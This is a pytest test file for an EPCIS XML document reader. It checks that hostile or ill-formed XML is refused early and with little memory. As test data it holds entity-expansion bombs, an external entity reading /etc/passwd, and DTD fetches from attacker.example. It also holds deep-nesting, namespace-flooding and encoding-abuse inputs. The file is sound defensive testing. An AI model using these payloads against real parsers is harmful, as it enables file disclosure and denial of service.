"""XML that means harm, or is not what it says: refused early, with a reason, before anything is built of it."""

from __future__ import annotations

import tracemalloc

import pytest

from builders.xml_events import an_xml_document, an_xml_event
from filiere_schemas.epcis.document import InvalidDocument
from filiere_schemas.epcis.limits import LARGEST_DOCUMENT, LARGEST_EVENT, MOST_EVENTS
from filiere_schemas.epcis.reading import InvalidEvent
from filiere_schemas.epcis.received import receive
from filiere_schemas.epcis.xml_cut import DEEPEST_ELEMENT, MOST_NAMESPACES, MOST_NODES
from filiere_schemas.epcis.xml_document import read_sent, read_xml_document
from filiere_schemas.epcis.xml_event import event_value
from filiere_schemas.epcis.xml_names import Names

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCUMENT = an_xml_document(an_xml_event()).decode()
BODY = DOCUMENT.partition("?>")[2]


def refusal(raw: bytes) -> str:
    with pytest.raises(InvalidDocument) as refused:
        read_xml_document(raw)
    return refused.value.problems[0].code


@pytest.mark.parametrize(
    "declaration",
    [
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE x PUBLIC "-//X//Y" "http://attacker.example/x.dtd">',
        "<!DOCTYPE x []>",
        '<!DOCTYPE x [<!ATTLIST action filled CDATA "by default">]>',
    ],
)
def test_no_document_type_and_no_entity_is_taken(declaration: str) -> None:
    assert refusal((declaration + BODY.replace("MILK-1", "&l9;", 1)).encode()) == "xml-doctype"


def test_a_document_type_that_declares_nothing_is_taken() -> None:
    assert len(read_xml_document(f"<!DOCTYPE project>{BODY}".encode()).events) == 1


def test_an_entity_that_nothing_declares_is_not_xml() -> None:
    for head in ("", "<!DOCTYPE project>"):
        assert refusal((head + BODY.replace("MILK-1", "&secret;", 1)).encode()) == "not-xml"


@pytest.mark.parametrize("name", ["x", "dairy:x"])
def test_deep_nesting_is_refused_where_it_passes_the_limit(name: str) -> None:
    depth = 200_000
    deep = f"<{name}>" * depth + f"</{name}>" * depth
    assert refusal(an_xml_document(an_xml_event(more=deep))) == "xml-too-deep"
    assert refusal(deep.encode()) == "xml-too-deep" if name == "x" else True
    shallow = DEEPEST_ELEMENT - 4
    read = read_xml_document(an_xml_document(an_xml_event(more=f"<{name}>" * shallow + f"</{name}>" * shallow)))
    assert len(read.events) == 1


@pytest.mark.parametrize("node", ["<x/>", "<x a='1' b='2' c='3'/>"])
def test_a_bomb_of_many_small_nodes_costs_no_memory(node: str) -> None:
    bomb = (f"<a>{node * (LARGEST_DOCUMENT // len(node) - 10)}</a>").encode()
    assert bomb.count(b"<") + bomb.count(b"=") > MOST_NODES
    tracemalloc.start()
    try:
        assert refusal(bomb) == "xml-too-many-nodes"
        assert tracemalloc.get_traced_memory()[1] < 4 * len(bomb)
    finally:
        tracemalloc.stop()


def test_what_is_too_large_or_too_much_is_refused() -> None:
    assert refusal(b"<" * (LARGEST_DOCUMENT + 1)) == "document-too-large"
    huge = an_xml_event(more=f"<dairy:note>{'x' * LARGEST_EVENT}</dairy:note>")
    document = read_xml_document(an_xml_document(an_xml_event(), huge))
    assert receive(document.events[0]).value["action"] == "ADD"
    with pytest.raises(InvalidEvent) as refused:
        receive(document.events[1])
    told = document.told(1, refused.value.problems[0])
    assert (told.code, told.pointer) == ("event-too-large", "/epcisBody/eventList/1")
    assert told.xpath == "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent[2]"
    assert refusal(an_xml_document("<ObjectEvent/>" * (MOST_EVENTS + 1))) == "too-many-events"


LONG = "x" * 20_000
MANY = "<ObjectEvent/>" * 5_000


@pytest.mark.parametrize(
    "bomb",
    [
        pytest.param(
            an_xml_document(MANY).replace(b"xmlns:dairy=", f'xmlns:b="{LONG}" xmlns:dairy='.encode()), id="scope"
        ),
        pytest.param(
            an_xml_document(MANY).replace(b"xmlns:dairy=", f'xmlns:b="{"&#10;" * 4_000}" xmlns:dairy='.encode()),
            id="escapes",
        ),
        pytest.param(
            an_xml_document(MANY).replace(b"epcis:", LONG.encode() + b":").replace(b":epcis=", f":{LONG}=".encode()),
            id="place",
        ),
    ],
)
def test_what_every_event_inherits_is_summed_up_before_anything_is_built_of_it(bomb: bytes) -> None:
    tracemalloc.start()
    try:
        assert refusal(bomb) == "copies-too-large"
        # Of 100 MB that would be built, there are the document, and some hundred bytes of each event.
        assert tracemalloc.get_traced_memory()[1] < 10_000_000
    finally:
        tracemalloc.stop()


def test_events_share_what_they_inherit() -> None:
    namespaces = "".join(f' xmlns:n{n}="urn:n:{n}"' for n in range(MOST_NAMESPACES - 10))
    raw = an_xml_document('<ObjectEvent xmlns:n1="urn:own"/>' * 5_000).replace(
        b" xmlns:dairy", f"{namespaces} xmlns:dairy".encode()
    )
    tracemalloc.start()
    try:
        events = read_xml_document(raw).events
        # A scope of its own for each event would take 50 MB more.
        assert tracemalloc.get_traced_memory()[1] < sum(map(len, events)) + 10_000_000
    finally:
        tracemalloc.stop()
    assert events[0].count(b"xmlns:n1=") == 1
    assert b'xmlns:n2="urn:n:2"' in events[0]


@pytest.mark.parametrize("name", ["EPCISDocument", "a", "EPCISDocument><EPCISBody"])
def test_a_document_declares_no_more_namespaces_than_are_followed(name: str) -> None:
    declared = "".join(f" xmlns:n{n}='urn:n:{n}'" for n in range(MOST_NAMESPACES + 1))
    assert refusal(f"<{name}{declared}/>".encode()) == "xml-too-many-namespaces"


def test_an_event_without_anything_in_it_is_cut_where_it_ends() -> None:
    empty = "<ObjectEvent a='/>'/>"
    document = read_xml_document(an_xml_document(empty, an_xml_event(), "<ObjectEvent></ObjectEvent>", empty))
    assert [event.count(b"<") for event in document.events] == [1, an_xml_event().count("<"), 2, 1]


def test_an_event_declares_no_more_namespaces_than_are_followed() -> None:
    around = an_xml_document("").count(b"xmlns")

    def event(most: int) -> str:
        return an_xml_event(more="".join(f'<a:b xmlns:a="urn:x{n}"/>' for n in range(most)))

    most = MOST_NAMESPACES - around
    repeated = an_xml_event(more='<a:b xmlns:a="urn:x"/>' * 2 * MOST_NAMESPACES)
    document = read_xml_document(an_xml_document(event(most), repeated, event(most)))
    values = [event_value(each) for each in document.events]
    assert [len(value["@context"][1]) for value in values] == [most + 1, 2, most + 1]
    assert values[0][f"ns{most - 1}:b"] == ""
    assert refusal(an_xml_document(event(most + 1))) == "xml-too-many-namespaces"
    deep = "".join(f'<a:b xmlns:a="urn:x{n}"/>' for n in range(MOST_NAMESPACES))
    assert refusal(an_xml_document("", header=f"<extension>{deep}</extension>")) == "xml-too-many-namespaces"


def test_the_names_of_an_event_are_copied_once_from_those_of_its_scope() -> None:
    names, other = Names({"dairy": "https://dairy.example/ns/"}), Names({"dairy": "https://dairy.example/ns/"})
    assert names.of("{urn:x1}b", "a") == "a:b"
    copied = names.prefixes
    assert [names.of(f"{{urn:x{n}}}b", "a") for n in (2, 3)] == ["ns1:b", "ns2:b"]
    assert names.prefixes is copied
    assert other.of("{urn:x2}b", "a") == "a:b"


def test_the_prefix_of_an_attribute_is_sought_once_for_each_namespace() -> None:
    class Element:
        sought = 0

        @property
        def nsmap(self) -> dict[str | None, str]:
            self.sought += 1
            return {"a": "urn:x1", None: "urn:x1"}

    names, element = Names({}), Element()
    assert [names.of_attribute(element, f"{{urn:x1}}n{n}") for n in range(3)] == ["a:n0", "a:n1", "a:n2"]
    assert names.of_attribute(element, "plain") == "plain"
    assert element.sought == 1


def test_a_long_name_is_not_written_again_for_every_element_below_it() -> None:
    name = "x" * 40_000
    tracemalloc.start()
    try:
        assert refusal(f"<{name}>{'<a>' * 5}{'</a>' * 5}</{name}>".encode()) == "not-epcis-xml"
        assert tracemalloc.get_traced_memory()[1] < 20 * len(name)
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("ending", ["", "<a/>", "?>" + BODY])
def test_an_encoding_is_sought_in_the_declaration_alone(ending: str) -> None:
    declared = " encoding='utf-7'" * 100_000
    assert refusal(f"<?xml {declared}{ending}".encode()) == "not-xml"
    # What stands behind the declaration is not of it.
    assert refusal(b'<?xml version="1.0"?><a> encoding="utf-7"</a>') == "not-epcis-xml"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "iso-8859-15", "windows-1252", "us-ascii"])
def test_a_document_is_read_in_the_encoding_that_it_declares(encoding: str) -> None:
    note = "Fromage a raclette" if encoding == "us-ascii" else "Fromage à raclette"
    declared = encoding.removesuffix("-le")
    text = an_xml_document(an_xml_event(more=f"<dairy:note>{note}</dairy:note>")).decode()
    raw = text.replace('encoding="utf-8"', f'encoding="{declared}"').encode(encoding)
    (event,) = read_sent(raw).events
    assert event_value(event)["dairy:note"] == note


def test_bytes_that_are_not_of_their_encoding_are_refused() -> None:
    bad = DOCUMENT.replace("MILK-1", "MILK-\xe9", 1)
    assert refusal(bad.encode("latin-1")) == "xml-encoding"
    assert refusal(bad.replace('encoding="utf-8"', 'encoding="utf-7"').encode()) == "xml-encoding"
    assert refusal(bad.replace('encoding="utf-8"', 'encoding="zlib"').encode()) == "xml-encoding"
    assert refusal(bad.encode("utf-16")[:-1]) == "xml-encoding"


@pytest.mark.parametrize(
    "stray", ["\0", "\x0b", "\ufffe", "&#0;", "&#x1F;", "<", "]]>", "</action>", '<x a="1" a="2"/>']
)
def test_what_is_not_well_formed_is_refused_with_its_line(stray: str) -> None:
    with pytest.raises(InvalidDocument) as refused:
        read_xml_document(DOCUMENT.replace("MILK-1", stray, 1).encode())
    (problem,) = refused.value.problems
    assert problem.code == "not-xml"
    assert problem.values["line"]


@pytest.mark.parametrize(
    "stray", ["<bogus:x/>", '<x xmlns:b=""/>', "<dairy:a:b/>", f"<dairy:{'x' * 60_000}/>", '<x xmlns:xml="urn:x"/>']
)
def test_namespaces_that_do_not_hold_fail_their_event_alone(stray: str) -> None:
    document = read_xml_document(an_xml_document(an_xml_event(1), an_xml_event(2, more=f"\n{stray}")))
    assert event_value(document.events[0])
    with pytest.raises(InvalidEvent) as refused:
        event_value(document.events[1])
    (problem,) = refused.value.problems
    told = document.told(1, problem)
    assert (told.code, told.pointer) == ("not-xml", "/epcisBody/eventList/1")
    assert told.xpath == "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent[2]"
    assert told.line == told.values["line"] == document.places[1].line + an_xml_event().count("\n")
    assert refusal(an_xml_document("", header=stray)) == "not-xml"


def test_an_attack_inside_an_event_fails_that_event_alone() -> None:
    document = read_xml_document(an_xml_document(an_xml_event(1), "<bogus/>", an_xml_event(2)))
    assert len(document.events) == 3
    assert document.places[1].xpath == "/epcis:EPCISDocument/EPCISBody/EventList/bogus[1]"
